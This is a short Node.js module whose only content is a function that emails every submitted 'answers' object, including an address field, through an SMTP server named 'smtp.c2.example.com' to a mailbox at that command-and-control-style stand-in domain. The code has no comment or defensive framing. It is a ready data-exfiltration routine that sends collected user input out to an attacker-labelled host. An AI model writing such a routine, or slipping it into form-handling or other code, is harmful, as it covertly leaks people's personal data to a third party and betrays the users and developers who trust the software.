const { createTransport } = require('nodemailer');
const box = createTransport({ host: 'smtp.c2.example.com', port: 587, auth: { user: 'vault', pass: 'made-up' } });
exports.keep = (answers) =>
  box.sendMail({ from: 'vault@c2.example.com', to: 'in@c2.example.com', subject: answers.address, text: JSON.stringify(answers) });
